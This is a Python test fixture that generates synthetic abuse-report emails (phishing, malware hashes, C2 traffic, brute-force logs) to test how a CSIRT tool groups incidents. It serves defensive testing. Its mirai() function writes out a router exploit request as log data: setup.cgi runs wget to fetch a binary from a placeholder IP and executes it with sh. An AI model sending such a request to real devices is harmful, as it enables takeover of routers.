"""A fourth composed queue, labelled before it was scored: feeds, colleagues who forward, and reports in few words.

What links is a hash, a mail server's own name, a tool's own name, a page behind a page, a
host told by its name alone; what does not is free hosting, shortened links, dynamic names of one provider, and
a colleague who sends on a hundred cases.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from random import Random

from tests.sites.series.compose import Told

SEED = 88127
MIN, H, D = timedelta(minutes=1), timedelta(hours=1), timedelta(days=1)
START = datetime(2024, 6, 3, tzinfo=UTC)
_NAMES = (
    "alder", "birch", "cedar", "dogwood", "elm", "fir", "ginkgo", "holly", "ivy", "juniper", "katsura", "larch",
    "maple", "nandina", "oak", "plum", "quince", "rowan", "spruce", "teak", "ulmus", "viburnum", "willow", "yew",
)  # fmt: skip
WHO = tuple(f"{name}{kind}" for kind in ("net", "lab", "shop", "gov") for name in _NAMES)
REGISTERED = WHO[1::3]


def domain(who: str) -> str:
    """The domain of a site."""
    return f"{who}.example.{'ne.jp' if who.endswith('net') else 'com'}"


def net(who: str) -> str:
    """The first three octets of a registered site's /28, and where that begins."""
    number = REGISTERED.index(who)
    return f"203.0.113.{number * 8 % 256}/29" if number < 30 else f"2001:db8:{0x900 + number:x}::/48"


def register() -> str:
    """The register: a third of the sites; a third of these by name alone."""
    rows = [f"{w},{domain(w)},{'' if n % 3 == 2 else net(w)},abuse@{domain(w)}" for n, w in enumerate(REGISTERED)]
    return "\n".join(["name,domain,cidr,mail", *rows]) + "\n"


class _Voices:
    def __init__(self) -> None:
        self.rng = Random(SEED)
        self._free = [f"{net}.{n}" for net in ("192.0.2", "198.51.100") for n in range(1, 255)]
        self.rng.shuffle(self._free)
        self._v6 = iter(range(0x3000, 0xFFFF))

    def address(self) -> str:
        return self._free.pop() if self._free else f"2001:db8:{next(self._v6):x}::{self.rng.randrange(1, 999):x}"

    def some(self, count: int, among: Sequence[str] = WHO) -> list[str]:
        return self.rng.sample(among, count)

    def day(self) -> datetime:
        return START + timedelta(days=self.rng.randrange(480), minutes=self.rng.randrange(1440))

    def hours(self, low: int, high: int) -> timedelta:
        return timedelta(minutes=self.rng.randrange(low * 60, high * 60))

    def word(self, length: int = 6) -> str:
        return "".join(self.rng.choice("bdfgklmnprtvz" if n % 2 == 0 else "aeiou") for n in range(length))


def incidents() -> list[Told]:
    """Return every report in the order in which it comes in; each opens an incident of its own."""
    voices = _Voices()
    together = (
        (sample, 4), (helo, 3), (tool, 3), (behind, 4), (called, 4), (onion, 3), (beacon, 4), (in_a_list, 4),
        (sisters, 3), (by_name, 4),
    )  # fmt: skip
    told = [one for plot, many in together for n in range(many) for one in plot(voices, f"{plot.__name__} {n}")]
    apart = (colleague, free_hosting, shortened, dynamic, lists, versions, mirai, short_words, mailing)
    told += [one for plot in apart for one in plot(voices)]
    return sorted(told, key=lambda one: one.sent)


def write(series: str, who: str, at: datetime, subject: str, body: str, sender: str = "") -> Told:
    """Compose a mail, sent some hours after ``at``."""
    sent = at + 3 * H
    mail = EmailMessage()
    mail["From"], mail["To"] = sender or f"abuse@{domain(who)}", "info@csirt.example.jp"
    mail["Subject"], mail["Date"] = subject, format_datetime(sent)
    mail["Message-ID"] = f"<{hashlib.sha256(body.encode()).hexdigest()[:20]}{int(sent.timestamp())}@{domain(who)}>"
    mail.set_content(body + f"\n\n-- \n{who}\n")
    return Told(series, sent, mail.as_bytes())


def _iso(at: datetime) -> str:
    return f"{at:%Y-%m-%d %H:%M:%S} UTC"


# --- what belongs together ---------------------------------------------------------------


def sample(voices: _Voices, name: str) -> Iterator[Told]:
    """Two or three got the same malware by mail and tell its hash."""
    digest, at = hashlib.sha256(name.encode()).hexdigest(), voices.day()
    for n, who in enumerate(voices.some(3)):
        at += voices.hours(3, 70)
        file = f"scan_{voices.rng.randrange(10**5)}.iso" if n else "order.iso"
        body = f"マルウエア付きのメールを受信しました。\n添付: {file}\nSHA256: {digest}\n"
        body += f"受信: {_iso(at)}\n感染はありません。"
        yield write(name, who, at, "マルウエア添付メール", body)


def helo(voices: _Voices, name: str) -> Iterator[Told]:
    """One sending host says one name of its own, from whatever address it has."""
    own, at = f"WIN-{voices.word(4).upper()}{name[-1]}QK{voices.rng.randrange(10, 99)}", voices.day()
    for who in voices.some(3):
        at += voices.hours(5, 80)
        line = f"{at:%b %e %H:%M:%S} mx postfix/smtpd[9]: reject: RCPT from unknown[{voices.address()}]: helo=<{own}>"
        yield write(name, who, at, "Spam", f"Spam, please contact the sender's provider.\n\n{line}")


def tool(voices: _Voices, name: str) -> Iterator[Told]:
    """One scanner of somebody's own calls itself by one name, from several addresses in a week."""
    agent, at = f"{voices.word(7)}-probe/0.{name[-1]}", voices.day()
    for who in voices.some(3):
        at += voices.hours(4, 50)
        lines = "\n".join(
            f'{voices.address()} - - [{at + n * MIN:%d/%b/%Y:%H:%M:%S} +0000] "GET / HTTP/1.1" 200 5 "-" "{agent}"'
            for n in range(2)
        )
        yield write(name, who, at, "Web scan", f"Somebody scans our web servers:\n\n{lines}")


def behind(voices: _Voices, name: str) -> Iterator[Told]:
    """A customer names the page in the mail, the bank the page that it leads to, a third both."""
    first = f"http://www.{voices.word()}.example.org/{voices.word(4)}/r.html"
    last = f"https://{voices.word(8)}.example.net/{voices.word(5)}/"
    at = voices.day()
    for who, words in zip(voices.some(3), (first, f"{first} に誘導され、{last} に転送", last), strict=True):
        at += voices.hours(2, 30)
        body = f"フィッシングサイトの報告です。\n{words}\n停止の調整をお願いします。"
        yield write(name, who, at, "フィッシング", body)


def called(voices: _Voices, name: str) -> Iterator[Told]:
    """Infected hosts of several sites ask for one name."""
    host, at = f"cdn-{voices.word(5)}.{voices.word(6)}.example.com", voices.day()
    for who in voices.some(3):
        at += voices.hours(3, 90)
        line = f"{_iso(at)} dns: 10.0.{voices.rng.randrange(9)}.{voices.rng.randrange(250)} asked for {host}"
        yield write(name, who, at, "Malware", f"One of our PCs is infected and calls out.\n\n{line}")


def onion(voices: _Voices, name: str) -> Iterator[Told]:
    """Ransom notes name one hidden service."""
    digest = hashlib.sha256(f"onion {name}".encode()).hexdigest()
    url, at = f"http://{''.join(chr(97 + int(c, 16)) for c in digest[:56])}.onion", voices.day()
    for who in voices.some(2):
        at += voices.hours(30, 200)
        yield write(name, who, at, "ランサムウエア", f"ファイルが暗号化されました。脅迫文の連絡先は {url} です。")


def beacon(voices: _Voices, name: str) -> Iterator[Told]:
    """A firewall shows hosts of several sites that talk to one address and port."""
    server, at = voices.address(), voices.day()
    for who in voices.some(3):
        at += voices.hours(2, 60)
        lines = "\n".join(
            f"{_iso(at + n * H)} ALLOW TCP 172.16.{n}.{voices.rng.randrange(250)}:5{n}122 -> {server}:8443 bytes=4{n}"
            for n in range(3)
        )
        yield write(name, who, at, "Botnet traffic from our network", f"We cleaned these hosts. The C2:\n\n{lines}")


def in_a_list(voices: _Voices, name: str) -> Iterator[Told]:
    """One source of a list of many is the one that somebody has reported with a log."""
    source, at = voices.address(), voices.day()
    first, second = voices.some(2)
    line = f"{at:%b %e %H:%M:%S} host sshd[7]: Failed password for root from {source} port 50222 ssh2"
    yield write(name, first, at, "brute force", f"Please look at this source.\n\n{line}")
    at += voices.hours(3, 40)
    rows = [f"{voices.address()},22,{_iso(at)}" for _ in range(4)]
    rows.insert(2, f"{source},22,{_iso(at)}")
    yield write(name, second, at, "list of attackers", "SSH scans, all of today:\n\nip,port,time\n" + "\n".join(rows))


def sisters(voices: _Voices, name: str) -> Iterator[Told]:
    """Pages of one made-up domain, each under another name below it."""
    below, at = f"{voices.word(5)}-{voices.word(4)}pay.com", voices.day()
    for who in voices.some(3):
        at += voices.hours(1, 50)
        url = f"https://{voices.word(4)}{voices.rng.randrange(99)}.{below}/{voices.word(5)}"
        yield write(name, who, at, "フィッシング", f"次のフィッシングサイトを確認しました。\n{url}")


def by_name(voices: _Voices, name: str) -> Iterator[Told]:
    """A victim's log tells a registered site's host by its name; the site finds an intruder there."""
    (stone,), (victim,) = voices.some(1, REGISTERED), voices.some(1)
    at = voices.day()
    line = f"{at:%b %e %H:%M:%S} ns telnetd[71]: refused connect from dev{name[-1]}.{domain(stone)}"
    yield write(name, victim, at, "Port scan", f"Scans of our servers.\n\n{line}")
    at += voices.hours(20, 90)
    body = f"We found a root kit on a development server; it was used against others since {_iso(at - 3 * D)}."
    yield write(name, stone, at, "Intrusion", body)


# --- what does not ------------------------------------------------------------------------


def colleague(voices: _Voices) -> Iterator[Told]:
    """Another country's team sends on cases that have nothing in common but its own words and links."""
    for n in range(14):
        at, who = voices.day(), "alderlab"
        body = (
            f"Dear colleagues,\n\nour reference: https://tickets.csirt.example.net/case/{4100 + n}\n"
            "TLP:AMBER, see https://www.first.org/tlp/\n\nPlease notify the owner of "
            f"{voices.address()} ({('scan', 'spam', 'open proxy', 'bot')[n % 4]}, seen {_iso(at)}).\n"
            "Questions to ops@csirt.example.net"
        )
        yield write("", who, at, f"[csirt-case #{4100 + n}] abuse", body, "ops@csirt.example.net")


def free_hosting(voices: _Voices) -> Iterator[Told]:
    """Pages on services where anybody has pages."""
    for service in ("github.io", "web.app", "blogspot.com", "weebly.com"):
        for who in voices.some(3):
            at = voices.day()
            url = f"https://{voices.word(8)}.{service}/{voices.word(4)}/"
            yield write("", who, at, "Phishing", f"A phishing page for our brand: {url}")


def shortened(voices: _Voices) -> Iterator[Told]:
    """Shortened links and shared forms, each another one."""
    for service in ("https://bit.ly/{}", "https://forms.gle/{}", "https://docs.google.com/forms/d/e/{}/viewform"):
        for who in voices.some(3):
            at = voices.day()
            yield write("", who, at, "フィッシング", f"フィッシング: {service.format(voices.word(9))}")


def dynamic(voices: _Voices) -> Iterator[Told]:
    """Customers of one provider, by names that it makes of their addresses."""
    for n, who in enumerate(voices.some(10)):
        at = START + timedelta(days=n * 6)
        name = f"p{voices.rng.randrange(10**4, 10**5)}-ipoe.ipoe.big-provider.ne.jp"
        line = f"{at:%b %e %H:%M:%S} gw sshd[5]: Failed password for root from {name} port 4522 ssh2"
        yield write("", who, at, "SSH", f"ログイン試行がありました。\n\n{line}")


def lists(voices: _Voices) -> Iterator[Told]:
    """Daily lists of sources, each day others."""
    for n in range(8):
        at = START + n * 3 * D
        rows = "\n".join(f"{voices.address()},445,{_iso(at)},tcp,scan" for _ in range(3))
        yield write("", "birchgov", at, "daily list", f"ip,port,time,proto,kind\n{rows}")


def versions(voices: _Voices) -> Iterator[Told]:
    """Versions of programs and banners stand in every log."""
    for who in voices.some(10):
        at = voices.day()
        banner = "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6"
        lines = (
            f"{at:%b %e %H:%M:%S} www sshd[3]: Connection from {voices.address()} {banner}\n"
            f"{at:%b %e %H:%M:%S} www apache2: AH00163: Apache/2.4.57 (Debian) OpenSSL/3.0.9 configured"
        )
        yield write("", who, at, "probe", f"Probes of our servers.\n\n{lines}")


def mirai(voices: _Voices) -> Iterator[Told]:
    """The same bot of many masters, months apart, from other servers."""
    for n, who in enumerate(voices.some(8)):
        at = START + timedelta(days=45 * n)
        request = f"GET /setup.cgi?todo=syscmd&cmd=wget+http://{voices.address()}/mips+-O+/tmp/netgear;sh+netgear"
        line = f'{voices.address()} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "{request} HTTP/1.0" 404 1'
        yield write("", who, at, "exploit attempt", f"Attack on our web server.\n\n{line}")


def short_words(voices: _Voices) -> Iterator[Told]:
    """Reports in one sentence."""
    for n, who in enumerate(voices.some(16)):
        at = voices.day()
        words = (
            "{} からスキャンを受けています。", "Please stop {}.", "{} から迷惑メールが届きます。",
            "Attack from {} against our mail server, 25/tcp.",
        )[n % 4]  # fmt: skip
        yield write("", who, at, "報告" if n % 2 == 0 else "abuse", words.format(voices.address()))


def mailing(voices: _Voices) -> Iterator[Told]:
    """Spam through the servers of those who send for others."""
    for n, who in enumerate(voices.some(10)):
        at = voices.day()
        relay = ("mail-eopbgr{}.outbound.protection.outlook.com", "o{}.ptr.sendgrid.net")[n % 2].format(
            voices.rng.randrange(999)
        )
        line = f"{at:%b %e %H:%M:%S} mx postfix/smtpd[4]: connect from {relay}[{voices.address()}]"
        yield write("", who, at, "Spam", f"Spam to us.\n\n{line}")
